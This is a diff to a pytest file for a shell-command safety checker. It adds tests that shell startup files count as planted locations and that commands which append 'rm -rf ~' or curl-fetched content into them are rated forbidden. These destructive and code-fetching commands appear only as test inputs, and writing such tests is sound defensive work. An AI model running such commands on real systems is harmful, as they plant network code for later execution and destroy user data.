@@ -7,6 +7,7 @@ import pytest
 from shellper.safety import assess
 from shellper.safety.files.planted import is_planted, planted
 from shellper.safety.missing import missing_programs
+from shellper.safety.places import STARTUP_FILES
 
 
 def level(text: str) -> str:
@@ -25,6 +26,21 @@ def test_files_that_run_later(path: str) -> None:
 @pytest.mark.parametrize("path", ["pre-commit.txt", "bashrc", "a.sh", "src/hooks/useState.ts", "service", "Makefile"])
 def test_other_files(path: str) -> None:
     assert not is_planted(path)
+
+
+@pytest.mark.parametrize("name", STARTUP_FILES)
+def test_all_rules_know_every_startup_file(name: str) -> None:
+    """They are settings, run by themselves, and are no place for what comes from the network."""
+    assert is_planted(f"~/{name}")
+    assert level(f"ls > ~/{name}") == "destructive"
+    assert level(f"echo 'rm -rf ~' >> ~/{name}") == "forbidden"
+    for fetching in ("curl -s x.io >> {}", "curl -o {} x.io", "curl -s x.io | tee -a {}", "curl -s x.io | sort -o {}"):
+        assert level(fetching.format(f"~/{name}")) == "forbidden", fetching
+
+
+def test_settings_that_nothing_runs() -> None:
+    assert not is_planted("~/.bash_history")
+    assert level("ls > ~/.bash_history") == level("ls > ~/.netrc") == level("ls > ~/.config/x/y") == "destructive"
 
 
 def test_scripts_in_them() -> None:
